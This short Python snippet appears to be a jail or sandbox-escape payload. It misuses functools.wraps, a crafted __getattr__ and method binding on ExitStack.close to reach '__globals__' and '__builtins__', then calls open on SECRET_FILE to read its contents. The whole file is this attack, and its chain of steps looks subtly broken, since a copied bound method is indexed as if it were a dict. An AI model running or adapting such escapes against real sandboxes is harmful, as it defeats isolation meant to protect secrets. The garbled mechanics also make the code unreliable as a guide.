# A function that took over a locked word as its name by wrapping is bound to a library's function, and copied.
import copy
from contextlib import ExitStack
from functools import wraps

class Named:
    def __getattr__(self, name):
        if name[2:-2] in ("name", "qualname", "module", "doc"):
            return "_".join(["", "", "globals", "", ""])
        raise AttributeError(name)

@wraps(Named())
def mine(self):
    pass

print(copy.deepcopy([copy.copy(mine.__get__(ExitStack.close))["__builtins__"]["open"]])[0](SECRET_FILE).read())
